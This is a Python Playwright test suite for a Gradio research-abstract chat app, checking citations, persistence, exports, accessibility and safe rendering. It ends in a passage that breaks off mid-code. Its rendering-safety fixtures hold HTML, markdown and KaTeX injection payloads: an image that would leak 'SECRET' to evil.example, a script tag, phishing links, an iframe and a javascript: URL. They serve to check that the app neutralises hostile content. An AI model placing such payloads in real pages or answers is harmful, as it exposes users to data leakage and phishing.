"""The page in a real headless browser: Playwright driving Debian's chromium (.ci/run installs it).

Without chromium the module is skipped with one line saying how to get it; CI sets
ASSISTANT_REQUIRE_BROWSER=1, which makes a missing browser a failure instead. ASSISTANT_CHROMIUM
points at another chromium executable.

Every step waits for an element (never for "network idle": Gradio keeps a connection open, and never
for a fixed time). Screenshots go to tests/artifacts/ (git-ignored) for a human to look at.
"""

from __future__ import annotations

import json
import os
import re
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import free_port
from playwright.sync_api import Browser, Page, expect, sync_playwright
from playwright.sync_api import Error as PlaywrightError

from assistant import exports, ui
from assistant.config import Settings
from assistant.errors import AssistantError
from assistant.text import split_sentences
from assistant.types import Answer, Citation, Final, Paper, Passage, Status, TextDelta
from assistant.ui import style

CHROMIUM = Path(os.environ.get("ASSISTANT_CHROMIUM", "/usr/bin/chromium"))
REQUIRED = os.environ.get("ASSISTANT_REQUIRE_BROWSER") == "1"
HERE = Path(__file__).resolve().parent
SEEDS = HERE.parent / "seeds"
ARTIFACTS = HERE / "artifacts"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run"]  # fmt: skip
WAIT = 120_000  # ms: generous for a loaded 2-core machine, but bounded
NTK = "What does the neural tangent kernel describe?"
expect.set_options(timeout=WAIT)
pytestmark = pytest.mark.slow

if not CHROMIUM.exists() and not REQUIRED:
    pytest.skip(
        f"browser tests need chromium (no {CHROMIUM}): run them after `apt-get install chromium`",
        allow_module_level=True,
    )



@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not CHROMIUM.exists():  # only with ASSISTANT_REQUIRE_BROWSER=1 (CI): never skipped there
        pytest.fail(f"ASSISTANT_REQUIRE_BROWSER=1 but no {CHROMIUM}: apt-get install -y chromium (never `playwright install`)")
    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield b
        b.close()


def serve(assistant: Any) -> tuple[Any, str]:
    app = ui.build_app(assistant)
    return app, ui.launch(app, host="127.0.0.1", port=free_port(), block=False)


@pytest.fixture(scope="module")
def shared_url(assistant: object) -> Iterator[str]:
    app, url = serve(assistant)
    yield url
    app.close()


def open_page(browser: Browser, url: str) -> tuple[Page, list[str]]:
    """A fresh page on the app, and the list of every request that leaves the local server."""
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.set_default_timeout(WAIT)
    outside: list[str] = []
    local = url.rstrip("/")
    page.on("request", lambda r: None if r.url.startswith((local, "data:", "blob:")) else outside.append(r.url))
    page.goto(url, wait_until="load", timeout=WAIT)
    page.locator("#aa-question textarea").wait_for()
    return page, outside


def ask(page: Page, question: str) -> None:
    page.locator("#aa-question textarea").fill(question)
    page.locator("#aa-ask").click()


def upload(page: Page, tab: str, component: str, path: Path) -> None:
    """Choose a file the way a user does: the chooser only opens once the (lazily mounted) tab is live.

    Once in CI (fresh clone, whole suite, 2 shared cores) a chosen file never showed in 120 s, after a tab
    switch; it has not happened in any run here, alone or under load. A user whose upload hangs reloads the page
    and chooses the file again, and so does this, once, after noting what the page showed beside the artifacts;
    a second miss fails the test."""
    shown = page.locator(component).get_by_text(path.name).filter(visible=True).first
    note = ARTIFACTS / f"upload-{path.stem}.retry.txt"
    note.unlink(missing_ok=True)  # an earlier run's
    for attempt in (1, 2):
        with page.expect_file_chooser(timeout=WAIT) as chooser:
            page.locator(component).get_by_role("button").filter(has_text="Click to Upload").click()
        chooser.value.set_files(str(path))
        try:
            shown.wait_for(timeout=WAIT // 4 if attempt == 1 else WAIT)
            return
        except PlaywrightError as exc:
            if attempt == 2:
                raise
            toasts = page.locator(".toast-body").all_inner_texts()
            note.write_text(
                f"{path.name} not shown in {WAIT // 4000} s ({exc.message.splitlines()[0]}); toasts {toasts}; "
                f"{component} read {page.locator(component).inner_text()!r}; reloaded and chosen again\n",
                encoding="utf-8",
            )
            shot(page, f"upload-{path.stem}.retry.png")
            page.reload(wait_until="load", timeout=WAIT)
            page.locator("#aa-question textarea").wait_for()
            page.get_by_role("tab", name=tab).click()


def shot(page: Page, name: str, full_page: bool = True) -> None:
    """Keep a picture of the page for review; a picture is an artifact, not a check.

    Under load (2 shared cores, the whole suite running) Chromium has taken over 120 s to
    paint a full page after every assertion had passed, failing CI on an artifact. So a
    slow capture is given 30 s, then noted beside the artifacts and passed over."""
    try:
        page.screenshot(path=str(ARTIFACTS / name), full_page=full_page, animations="disabled", timeout=30_000)
        (ARTIFACTS / f"{name}.missing.txt").unlink(missing_ok=True)  # an earlier run's note
    except PlaywrightError as exc:
        (ARTIFACTS / f"{name}.missing.txt").write_text(f"screenshot not taken: {exc}\n", encoding="utf-8")


# The contrast of an element's text with the first opaque background behind it (WCAG 2 relative luminance).
CONTRAST_JS = """el => {
  const rgb = (c) => c.match(/[\\d.]+/g).map(Number);
  const lum = ([r, g, b]) => [r, g, b].map((v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; })
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  let back = el, bg = [255, 255, 255];
  for (; back; back = back.parentElement) {
    const c = rgb(getComputedStyle(back).backgroundColor);
    if (c.length < 4 || c[3] > 0) { bg = c.slice(0, 3); break; }
  }
  const [a, b] = [lum(rgb(getComputedStyle(el).color)), lum(bg)].sort((x, y) => y - x);
  return (a + 0.05) / (b + 0.05);
}"""


PLACEHOLDER_FITS_JS = """el => {
  const style = getComputedStyle(el), pen = document.createElement("canvas").getContext("2d");
  pen.font = `${style.fontSize} ${style.fontFamily}`;
  return pen.measureText(el.placeholder).width <= el.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight);
}"""


def test_chat_streams_a_cited_answer_and_links_to_the_quote(browser: Browser, shared_url: str, assistant: Any) -> None:
    page, outside = open_page(browser, shared_url)
    expect(page.get_by_role("textbox", name="Question")).to_be_visible()  # named for screen readers
    expect(page.locator("footer")).to_contain_text("API")  # the page's API is listed; Gradio's own Settings, a
    expect(page.locator("footer")).not_to_contain_text("Settings")  # second panel of that name beside ours, is not
    ask(page, NTK)
    bubble = page.locator("#aa-chat .aa-answer:not(.aa-pending)").last
    bubble.locator("a.aa-cite").first.wait_for()
    card = page.locator("#aa-sources .aa-card").first
    card.wait_for()
    expect(page.locator("#aa-status")).to_contain_text(re.compile(r"\d+ sources? · support (strong|partial) · extractive"))
    expect(page.locator("#aa-question textarea")).to_be_focused()  # the next question can be typed at once
    assert re.search(r"rank \d of \d", card.inner_text()) and "Neural Tangent Kernel" in bubble.inner_text()
    shot(page, "chat-answer.png")
    # text a reader needs is legible: WCAG AA, 4.5:1 (Gradio's grey and blue gave 2.6:1 and 3.5:1)
    for selector in ("#aa-sources .aa-meta", "#aa-chat a.aa-cite", "#aa-status", "#aa-ask"):
        assert page.locator(selector).first.evaluate(CONTRAST_JS) >= 4.5, selector

    link = bubble.locator("a.aa-cite").first
    assert link.inner_text() == "[1]"
    target = link.get_attribute("href")
    link.click()
    mark = page.locator(f"#aa-sources mark{target}")
    expect(mark).to_be_in_viewport()
    assert page.evaluate("location.hash") == target
    assert mark.evaluate("m => m.matches(':target')") and mark.inner_text().strip()
    shot(page, "chat-citation-clicked.png", full_page=False)
    link.focus()  # from the keyboard: the focus follows to the quote (it fell to the page's body)
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.activeElement && document.activeElement.closest('#aa-sources') !== null")
    assert page.evaluate("document.activeElement.id") == target.lstrip("#")

    ask(page, "How do they prove it?")  # a follow-up uses the conversation
    expect(page.locator("#aa-chat .aa-answer:not(.aa-pending)")).to_have_count(2)
    page.locator("#aa-chat .aa-answer").nth(1).locator("a.aa-cite").first.wait_for()
    # The first answer's [1] still opens its own quote, folded under its question below the new sources
    earlier = page.locator("#aa-sources details.aa-earlier")
    expect(earlier).to_have_count(1)
    assert earlier.get_attribute("open") is None and NTK in earlier.locator("> summary").inner_text()
    old = page.locator("#aa-chat .aa-answer").first.locator("a.aa-cite").first
    assert old.get_attribute("href") == target
    old.click()
    expect(page.locator(f"#aa-sources details.aa-earlier mark{target}")).to_be_in_viewport()
    assert earlier.get_attribute("open") is not None and page.evaluate("location.hash") == target
    shot(page, "chat-earlier-citation-clicked.png", full_page=False)
    page.locator("#aa-settings").get_by_text("Settings").filter(visible=True).first.click()
    page.get_by_text("fully offline").filter(visible=True).first.wait_for()
    kept_before = page.evaluate("localStorage.getItem('aa-settings')")
    page.locator("#aa-retrieval-mode").get_by_text("bm25", exact=True).click()
    shot(page, "chat-followup-settings.png")

    # the choice holds after a reload: the radio read bm25 again but the reload had set it back, so the next
    # question went another way than the page showed. The browser keeps it once the server has sealed it (the
    # stored settings are encrypted): a reload on loaded cores before that round trip lost the click (CI, once)
    page.wait_for_function("before => localStorage.getItem('aa-settings') !== before", arg=kept_before)
    page.reload(wait_until="load")
    page.locator("#aa-settings").get_by_text("Settings").filter(visible=True).first.click()
    expect(page.locator("#aa-retrieval-mode input[value='bm25']")).to_be_checked()
    page.locator("#aa-retry").click()  # the last question again, answered with bm25 now
    expect(page.locator("#aa-status")).to_contain_text(assistant.settings_for(retrieval_mode="bm25").settings_hash())
    expect(page.locator("#aa-sources")).to_contain_text("All 5 retrieved papers")
    expect(page.locator("#aa-chat .aa-answer:not(.aa-pending)")).to_have_count(2)
    page.locator("#aa-clear").click()
    expect(page.locator("#aa-sources")).to_contain_text("The sources of an answer appear here")
    expect(page.locator("#aa-chat .aa-answer")).to_have_count(0)

    example = "Which papers study post-training quantization?"
    page.get_by_text(example, exact=True).filter(visible=True).first.click()  # an example is asked at once
    page.locator("#aa-chat .aa-answer:not(.aa-pending)").first.locator("a.aa-cite").first.wait_for()
    expect(page.locator("#aa-chat")).to_contain_text(example)
    items = page.locator("#aa-chat .aa-answer ul.aa-by-paper > li")  # one item per paper cited
    expect(items).to_have_count(2)
    assert [items.nth(i).locator("a.aa-cite").first.inner_text() for i in range(2)] == ["[1]", "[2]"]
    shot(page, "chat-example-by-paper.png", full_page=False)
    expect(page.locator("#aa-chat .aa-answer")).to_have_count(1)
    expect(page.locator("#aa-question textarea")).to_have_value("")
    expect(page.locator("#aa-ask")).to_be_enabled()
    assert outside == [], outside
    page.close()


def test_an_earlier_answers_citation_near_the_panels_end_does_not_scroll_the_page(browser: Browser, shared_url: str) -> None:
    """At 1440x900, after four answers, answer 1's [2] scrolled the page by 340 px: its quote lay near the end of
    the sources panel, which runs past the window's bottom, and could not be brought up inside it."""
    page, _ = open_page(browser, shared_url)
    page.set_viewport_size({"width": 1440, "height": 900})
    for n, question in enumerate(("Which papers study pruning?", "How do they differ?", "What is neural collapse?",
                                  "Which papers study quantization?"), start=1):
        ask(page, question)
        expect(page.locator("#aa-chat .aa-answer:not(.aa-pending)")).to_have_count(n)
        expect(page.locator("#aa-ask")).to_be_enabled()
    link = page.locator('#aa-chat a.aa-cite[href="#src-1-2"]').first
    link.scroll_into_view_if_needed()
    page.wait_for_timeout(500)
    before = page.evaluate("window.scrollY")
    link.click()
    expect(page.locator("#aa-sources mark#src-1-2")).to_be_in_viewport()
    page.wait_for_timeout(300)
    assert page.evaluate("window.scrollY") == before
    page.close()


def test_a_reload_keeps_the_conversation_and_export_downloads_it(browser: Browser, shared_url: str) -> None:
    page, outside = open_page(browser, shared_url)
    expect(page.locator("#aa-export")).to_be_disabled()  # nothing to export yet
    expect(page.locator("#aa-retry")).to_be_disabled()  # nor to retry
    ask(page, NTK)
    bubble = page.locator("#aa-chat .aa-answer:not(.aa-pending)").last
    bubble.locator("a.aa-cite").first.wait_for()
    answer_text = bubble.inner_text()
    expect(page.locator("#aa-export")).to_be_enabled()
    expect(page.locator("#aa-retry")).to_be_enabled()
    status = page.locator("#aa-status").inner_text()
    assert "support" in status, status
    expect(page.locator("#aa-bibtex")).to_contain_text("@misc{")  # the references as BibTeX, to copy (a text file types no paper)
    assert page.evaluate("sessionStorage.getItem('aa-pending-question')") is None  # saved: not put back in the box
    page.reload(wait_until="load")
    restored = page.locator("#aa-chat .aa-answer:not(.aa-pending)")
    expect(restored).to_have_count(1)
    expect(restored.first).to_contain_text(answer_text[:60])
    expect(page.locator("#aa-sources .aa-card").first).to_be_visible()
    expect(page.locator("#aa-status")).to_have_text(status)  # the last answer's line, as before the reload
    expect(page.locator("#aa-retry")).to_be_enabled()
    page.wait_for_timeout(1000)  # the box is refilled within 200 ms of mounting, when there is a question to put back
    expect(page.locator("#aa-question textarea")).to_have_value("")
    with page.expect_download(timeout=WAIT) as download:
        page.locator("#aa-export").click()
    markdown = Path(download.value.path()).read_text(encoding="utf-8")
    assert markdown.startswith("# Conversation with Abstract Assistant") and f"## 1. {NTK}" in markdown
    cited = sorted(set(re.findall(r"\[(\d+)\]", markdown.split("References:")[0])))
    assert cited and all(f"\n[{n}] " in markdown for n in cited)  # every [n] has its reference
    assert "Neural Tangent Kernel" in markdown.split("References:")[1]
    page.locator("#aa-clear").click()
    expect(page.locator("#aa-chat .aa-answer")).to_have_count(0)
    expect(page.locator("#aa-export")).to_be_disabled()  # the cleared conversation is saved (this step follows)
    expect(page.locator("#aa-retry")).to_be_disabled()  # a Retry here raised an "Error" toast
    page.reload(wait_until="load")
    page.locator("#aa-question textarea").wait_for()
    expect(page.locator("#aa-sources")).to_contain_text("The sources of an answer appear here")
    expect(page.locator("#aa-chat .aa-answer")).to_have_count(0)
    # The chat box's own trash icon clears as much as the Clear button: sources, export and the saved copy.
    ask(page, NTK)
    page.locator("#aa-chat .aa-answer:not(.aa-pending) a.aa-cite").first.wait_for()
    page.locator("#aa-chat").get_by_role("button", name="Clear").click()
    expect(page.locator("#aa-sources")).to_contain_text("The sources of an answer appear here")
    expect(page.locator("#aa-export")).to_be_disabled()
    page.reload(wait_until="load")
    page.locator("#aa-question textarea").wait_for()
    expect(page.locator("#aa-chat .aa-answer")).to_have_count(0)
    assert outside == [], outside
    page.close()


def test_the_saved_conversation_survives_a_restart_of_the_server(browser: Browser, store_copy: Path) -> None:
    """Each server process encrypted the browser's saved copy with a key of its own: a restart lost it."""
    from assistant.api import Assistant

    port = free_port()
    app = ui.build_app(Assistant(Settings(store_dir=store_copy, seeds_dir=SEEDS)))
    url = ui.launch(app, host="127.0.0.1", port=port, block=False)
    page, _ = open_page(browser, url)
    ask(page, NTK)
    page.locator("#aa-chat .aa-answer:not(.aa-pending) a.aa-cite").first.wait_for()
    answer_text = page.locator("#aa-chat .aa-answer").last.inner_text()
    expect(page.locator("#aa-export")).to_be_enabled()  # the chain that saves the conversation has run
    app.close()
    again = ui.build_app(Assistant(Settings(store_dir=store_copy, seeds_dir=SEEDS)))  # a new process's page
    try:
        assert ui.launch(again, host="127.0.0.1", port=port, block=False) == url  # same origin, same storage
        page.reload(wait_until="load")
        restored = page.locator("#aa-chat .aa-answer:not(.aa-pending)")
        expect(restored).to_have_count(1)
        expect(restored.first).to_contain_text(answer_text[:60])
        assert oct((store_copy / "page-secret").stat().st_mode & 0o777) == "0o600"
        page.close()
    finally:
        again.close()


def test_answer_and_sources_stay_visible_together_and_the_narrow_page_reaches_every_tab(
    browser: Browser, shared_url: str
) -> None:
    page = browser.new_page(viewport={"width": 1280, "height": 800})
    page.set_default_timeout(WAIT)
    page.goto(shared_url, wait_until="load", timeout=WAIT)
    ask(page, "Which methods make post-training quantization more accurate?")
    bubble = page.locator("#aa-chat .aa-answer:not(.aa-pending)").last
    links = bubble.locator("a.aa-cite")
    links.first.wait_for()
    links.last.click()  # the last marker: its card may sit lower in the panel
    target = links.last.get_attribute("href")
    mark = page.locator(f"#aa-sources mark{target}")
    expect(mark).to_be_in_viewport()
    expect(bubble).to_be_in_viewport()  # the answer did not move away to show the source
    box = bubble.bounding_box()
    assert box is not None and box["y"] >= 0 and box["y"] + min(box["height"], 200) <= 800
    shot(page, "chat-wide-1280.png", full_page=False)
    page.set_viewport_size({"width": 420, "height": 900})
    for name, probe in (("Papers", "#aa-paper-id"), ("Add abstracts", "#aa-add"), ("Evaluate", "#aa-eval"),
                        ("Chat", "#aa-question textarea")):
        tab = page.get_by_role("tab", name=name)
        if tab.count() and tab.first.is_visible():
            tab.first.click()
        else:  # folded into Gradio's "More tabs" menu at this width
            page.get_by_label("More tabs").click()
            page.get_by_role("button", name=name, exact=True).filter(visible=True).first.click()
        expect(page.locator(probe).first).to_be_visible()
        if name == "Papers":  # a phone's table keeps id and title; the rest is in the abstract view
            row = page.locator("#aa-papers [role=row]").nth(1)
            expect(row.locator("[role=gridcell]:visible")).to_have_count(2)
            # ... under headers as wide as its columns (the header table had split the width evenly)
            heads = [h.bounding_box() for h in page.locator("#aa-papers [role=columnheader]:visible").all()]
            cells = [c.bounding_box() for c in row.locator("[role=gridcell]:visible").all()]
            assert len(heads) == 2 and all(
                h and c and abs(h["x"] - c["x"]) < 2 and abs(h["width"] - c["width"]) < 2 for h, c in zip(heads, cells)
            ), (heads, cells)
    expect(page.locator("#aa-chat")).to_be_visible()
    shot(page, "chat-narrow-420.png")
    # A phone stacks the sources under the chat: [n] brings its quote on screen.
    page.set_viewport_size({"width": 390, "height": 844})
    page.evaluate("window.scrollTo(0, 0)")
    links.last.click()
    expect(mark).to_be_in_viewport()
    shot(page, "cite-phone-390.png", full_page=False)
    scroller = page.locator("#aa-bibtex .cm-scroller")  # the references' BibTeX wraps: nothing to scroll sideways
    scroller.scroll_into_view_if_needed()
    assert scroller.evaluate("s => s.scrollWidth <= s.clientWidth + 1"), scroller.evaluate("s => [s.scrollWidth, s.clientWidth]")
    expect(bubble).not_to_be_in_viewport()  # the quote is far below the answer: its card leads back
    back = page.locator(f"#aa-sources .aa-card:has(mark{target}) a.aa-back")
    expect(back).to_be_visible()
    back.click()
    expect(bubble).to_be_in_viewport()
    page.set_viewport_size({"width": 1280, "height": 800})
    expect(back).to_be_hidden()  # beside the chat, the answer is in view anyway
    page.close()


def test_math_in_abstracts_is_typeset_with_the_bundled_katex(browser: Browser, shared_url: str) -> None:
    page, outside = open_page(browser, shared_url)
    ask(page, "What is symbolic autoencoding?")
    card = page.locator("#aa-sources .aa-card").first
    card.wait_for()
    math = card.locator(".aa-math .katex")  # "$\\Sigma$AE" in the seed abstract
    expect(math.first).to_be_attached()
    assert "Σ" in math.first.locator(".katex-html").inner_text()
    assert "$" not in card.locator(".aa-quote").first.inner_text()  # no raw LaTeX left in the snippet
    card.locator("summary").first.click()  # the whole abstract, typeset too
    expect(card.locator(".aa-abstract .katex").first).to_be_visible()
    shot(page, "chat-math.png", full_page=False)
    assert outside == [], outside  # KaTeX, its stylesheet and fonts came from this server
    page.close()


def test_a_similar_or_retrieved_paper_opens_in_the_papers_tab(browser: Browser, shared_url: str, assistant: Any) -> None:
    """Titles in a card's "Similar papers" and in "All N retrieved papers" open that abstract in the Papers
    tab, whose own similar papers open the same way (they were plain text)."""
    page, _ = open_page(browser, shared_url)
    ask(page, NTK)
    card = page.locator("#aa-sources .aa-card").first
    card.wait_for()
    card.locator(".aa-similar summary").click()
    link = card.locator(".aa-similar a.aa-open").first
    pid, title = link.get_attribute("data-paper"), link.inner_text()
    assert pid and assistant.paper(pid).title == title
    link.click()
    expect(page.get_by_role("tab", name="Papers")).to_have_attribute("aria-selected", "true")
    view = page.locator("#aa-abstract")
    expect(view.locator("h3")).to_contain_text(title)
    expect(page.locator("#aa-paper-id textarea, #aa-paper-id input").first).to_have_value(pid)
    nearest = view.locator(".aa-similar a.aa-open").first  # and on from there, within the tab
    second_pid, second_title = nearest.get_attribute("data-paper"), nearest.inner_text()
    nearest.click()
    expect(view.locator("h3")).to_contain_text(second_title)
    assert second_pid != pid
    page.get_by_role("tab", name="Chat").click()
    retrieved = page.locator("#aa-sources .aa-retrieved")
    retrieved.locator("summary").click()
    last = retrieved.locator("a.aa-open").last
    last_title = last.inner_text()
    last.click()
    expect(view.locator("h3")).to_contain_text(last_title)
    page.close()


def test_abstention_and_errors_are_shown_apart(browser: Browser, shared_url: str) -> None:
    page, outside = open_page(browser, shared_url)
    too_long = "Why? " * 500
    ask(page, too_long)
    expect(page.locator("#aa-status .aa-refused")).to_contain_text("the limit is 2,000")  # inline, beside the box
    shot(page, "chat-error.png", full_page=False)
    assert page.get_by_text("Traceback").count() == 0
    assert page.locator(".toast-body, .toast-wrap .error").count() == 0  # no error pill
    assert page.locator("#aa-question textarea").input_value().strip() == too_long.strip()  # kept for editing
    expect(page.locator("#aa-chat .aa-answer, #aa-chat .aa-abstain")).to_have_count(0)
    ask(page, "What is the best recipe for sourdough bread with rye flour?")
    page.locator("#aa-chat .aa-abstain").wait_for()
    page.locator("#aa-sources .aa-closest").first.wait_for()
    expect(page.locator("#aa-status")).to_contain_text("Not answered")
    shot(page, "chat-abstention.png")
    assert outside == [], outside
    page.close()


def test_evaluate_tab_runs_an_uploaded_question_file(browser: Browser, shared_url: str, tmp_path: Path) -> None:
    page, outside = open_page(browser, shared_url)
    page.get_by_role("tab", name="Evaluate").click()
    expect(page.locator("#aa-eval-empty")).to_contain_text("No results yet")  # the empty state says what to do
    expect(page.locator("#aa-eval")).to_have_text("Run on the bundled questions")
    expect(page.locator("#aa-eval-retrieval")).to_be_hidden()
    lines = (HERE / "questions.jsonl").read_text(encoding="utf-8").splitlines()
    small = tmp_path / "three_questions.jsonl"
    small.write_text("\n".join(lines[:3]) + "\n", encoding="utf-8")
    upload(page, "Evaluate", "#aa-qfile", small)
    expect(page.locator("#aa-eval")).to_have_text("Run on this question file")
    page.locator("#aa-eval").click()
    # Building the stock baseline loads torch and embeds every abstract: on a loaded 2-core machine over 120 s.
    # How long it takes is benchmarks/bench.py's business; here, that it finishes and shows.
    expect(page.locator("#aa-eval-summary")).to_contain_text("3 questions", timeout=3 * WAIT)
    page.locator("#aa-eval-retrieval").get_by_text("llamaindex-stock").filter(visible=True).first.wait_for(timeout=3 * WAIT)
    page.locator("#aa-eval-answers").get_by_text("citation precision").filter(visible=True).first.wait_for()
    page.locator("#aa-eval-files a[download='report.json']").wait_for()
    plots = page.locator("#aa-eval-plots img")
    expect(plots).to_have_count(2)
    page.wait_for_function(  # both plots decoded and painted, not just present
        "() => [...document.querySelectorAll('#aa-eval-plots img')].filter(i => i.complete && i.naturalWidth > 0)"
        ".length === 2",
        timeout=WAIT,
    )
    expect(page.locator("#aa-eval-empty")).to_be_hidden()
    shot(page, "evaluate.png")
    assert outside == [], outside
    page.close()


EVIL_AUTHOR = "<img src=https://evil.example/a.png> **Eve** [x](https://evil.example/x)"  # an added file is untrusted


def test_added_abstract_is_searchable_in_papers(browser: Browser, store_copy: Path, tmp_path: Path) -> None:
    from assistant.api import Assistant

    app, url = serve(Assistant(Settings(store_dir=store_copy, seeds_dir=SEEDS)))
    try:
        upload_file = tmp_path / "zebra_abstracts.jsonl"
        record = {
            "title": "Zebra Transformers for Striped Sequence Modelling",
            "abstract": "We introduce zebra transformers, which alternate attention and convolution in striped "
            "layers. Zebra transformers match standard transformers on language modelling at lower cost.",
            "authors": ["Ada Stripe", "Ben Hoof", EVIL_AUTHOR],
            "url": "https://example.org/zebra",
        }
        upload_file.write_text(json.dumps(record) + "\n" + "{not json\n", encoding="utf-8")

        page, outside = open_page(browser, url)
        page.get_by_role("tab", name="Add abstracts").click()
        page.locator("#aa-add").click()  # no file chosen: an error toast, on this tab only
        toast = page.locator(".toast-body").filter(has_text="Choose one or more files first")
        expect(toast).to_be_visible()
        page.get_by_role("tab", name="Chat").click()
        expect(page.locator(".toast-body")).to_have_count(0, timeout=3000)  # gone at once (Gradio keeps it 10 s)
        page.get_by_role("tab", name="Add abstracts").click()
        page.locator("#aa-add").click()
        expect(toast).to_be_visible()
        upload(page, "Add abstracts", "#aa-upload", upload_file)
        expect(page.locator(".toast-body")).to_have_count(0, timeout=3000)  # the files it asked for are chosen
        page.locator("#aa-add").click()
        report = page.locator("#aa-add-report")
        expect(report).to_contain_text("1 new")
        expect(report).to_contain_text("75 papers")
        expect(report).to_contain_text("1 file(s) or line(s) could not be read")  # inline, not a toast
        expect(report).to_contain_text("zebra_abstracts.jsonl:2")  # the bad line, by file and line
        assert page.locator(".toast-body").count() == 0
        shot(page, "add-abstracts.png")

        page.get_by_role("tab", name="Papers").click()
        page.locator("#aa-paper-search textarea, #aa-paper-search input").first.fill("zebra")
        expect(page.locator("#aa-paper-count")).to_contain_text("1 of 75 papers")
        title = "Zebra Transformers for Striped Sequence Modelling"
        cell = page.locator("#aa-papers").get_by_text(title).filter(visible=True).first
        expect(page.locator("#aa-papers")).to_contain_text(EVIL_AUTHOR)  # the authors' cell: text, as written
        assert page.locator("#aa-papers img, #aa-papers strong, #aa-papers a[href*=evil]").count() == 0
        cell.click()
        view = page.locator("#aa-abstract")
        expect(view).to_contain_text("alternate attention and convolution")
        assert view.locator("a[href='https://example.org/zebra']").count() == 1
        expect(view).to_contain_text(EVIL_AUTHOR)
        assert view.locator("img, strong, a[href*=evil]").count() == 0
        shot(page, "papers-search.png")
        expect(page.get_by_label("Export format")).to_be_visible()  # a screen reader heard only "Dropdown"
        page.locator("#aa-export-papers").click()  # the search's one paper, as BibTeX (the default format)
        page.locator("#aa-export-file a[download], #aa-export-file a").first.wait_for()
        with page.expect_download(timeout=WAIT) as download:
            page.locator("#aa-export-file a").first.click()
        exported = Path(download.value.path()).read_text(encoding="utf-8")
        assert exported.count("\n@misc{") == 1 and "Zebra Transformers" in exported and "Ben Hoof" in exported
        shot(page, "papers-export.png")
        page.locator("#aa-paper-search textarea, #aa-paper-search input").first.fill("zebras")
        expect(page.locator("#aa-export-file")).to_be_hidden()  # that file was the earlier search's

        page.get_by_role("tab", name="Chat").click()
        ask(page, "What do zebra transformers alternate?")
        page.locator("#aa-sources .aa-card").get_by_text("Zebra Transformers").filter(visible=True).first.wait_for()

        page.locator("#aa-filters").get_by_text("Filters").filter(visible=True).first.click()
        for box in ("year", "author", "category", "venue"):  # each placeholder whole ("names, comma-se" was cut off)
            field = page.locator(f"#aa-filter-{box} input, #aa-filter-{box} textarea").first
            assert field.evaluate(PLACEHOLDER_FITS_JS), box
        page.locator("#aa-filter-author input, #aa-filter-author textarea").first.fill("Hoof")
        ask(page, "How can sequence models be made cheaper?")  # a general question, one author's papers
        expect(page.locator("#aa-status")).to_contain_text("only papers with author Hoof")
        latest = page.locator("#aa-sources .aa-card:not(.aa-earlier .aa-card)")  # the first answer's are folded below
        expect(latest).to_have_count(1)
        expect(latest.locator("header")).to_contain_text("Zebra Transformers")
        assert page.locator("#aa-sources img, #aa-sources strong, #aa-sources a[href*=evil]").count() == 0
        expect(page.locator("#aa-sources")).to_contain_text("The one retrieved paper")  # not "All 1 retrieved papers"
        expect(page.locator("#aa-filter-venue input, #aa-filter-venue textarea").first).to_be_visible()
        shot(page, "chat-filters.png")
        assert outside == [], outside
        page.close()
    finally:
        app.close()


# -- rendering safety, end to end: a scripted assistant whose answer and abstract carry attacks ---------------
ATTACK = (
    "Zebras stripe [1]. ![leak](https://evil.example/pixel.png?q=SECRET) <img src=https://evil.example/i.png> "
    "<script>document.title='owned'</script> [click me](https://evil.example/phish) https://evil.example/bare "
    "www.evil.example <a href=\"https://evil.example/raw\">raw link</a> **bold** $x^2$ [9] "
    "$\\href{https://evil.example/m}{y}$ $\\url{https://evil.example/u}$ $\\htmlClass{x}{z}$."
)
EVIL_PAPER = Paper(
    id="evil0000",
    title="Stripes <img src=https://evil.example/t.png>",
    abstract="Zebras stripe. ![leak](https://evil.example/abstract.png) <iframe src=https://evil.example/f></iframe> "
    "$\\href{https://evil.example/a}{z}$",
    authors=["Mallory <b>M</b>"],
    url="https://example.org/stripes",
)
TRAP = Paper(id="trap0000", title="Trap", abstract="A javascript link.", url="javascript:alert(1)")


class ScriptedAssistant:
    """Just the Assistant surface the page uses, answering every question with ATTACK."""

    settings = Settings(store_dir=Path(tempfile.mkdtemp(prefix="aa-scripted-")))  # its page-secret goes there

    def papers(self, limit: int | None = None) -> list[Paper]:
        return [EVIL_PAPER, TRAP][:limit]

    def paper_count(self) -> int:
        return len(self.papers())

    def paper(self, paper_id: str) -> Paper | None:
        return {p.id: p for p in self.papers()}.get(paper_id)

    def export(self, paper_ids: list[str], fmt: str) -> str:
        return exports.export([p for p in self.papers() if p.id in paper_ids], fmt)  # type: ignore[arg-type]

    def references(self, paper_ids: list[str]) -> str:
        return exports.to_bibtex([p for p in self.papers() if p.id in paper_ids], abstracts=False)

    def similar(self, paper_id: str, k: int) -> list[Passage]:
        return [Passage(paper_id=TRAP.id, title=TRAP.title, score=0.5, text=TRAP.abstract)] if paper_id == EVIL_PAPER.id else []

    def similar_to_each(self, paper_ids: list[str], k: int) -> dict[str, list[Passage]]:
        return {pid: self.similar(pid, k) for pid in paper_ids}

    def sentences_of(self, paper_ids: list[str]) -> dict[str, list[str]]:  # as ingest splits them
        return {p.id: split_sentences(p.abstract) for p in self.papers() if p.id in paper_ids}

    def ask(self, question: str, history: object = None, filters: object = None, **overrides: object) -> Answer:
        """What the page asks its example questions with: this scripted store answers none, so offers none."""
        return Answer(question=question, text="", citations=[], abstained=True, settings_hash="scripted")

    def stream(self, question: str, history: object = None, filters: object = None, **overrides: object) -> Iterator[object]:
        yield Status(stage="retrieving")
        yield Status(stage="writing")
        for i in range(0, len(ATTACK), 40):  # streamed in pieces, as a model would
            yield TextDelta(text=ATTACK[i : i + 40])
        answer = Answer(
            question=question,
            text=ATTACK,
            citations=[
                Citation(n=1, paper_id=EVIL_PAPER.id, title=EVIL_PAPER.title, quote="Zebras stripe."),
                Citation(n=2, paper_id=TRAP.id, title=TRAP.title, quote="A javascript link."),
            ],
            abstained=False,
            settings_hash="scripted",
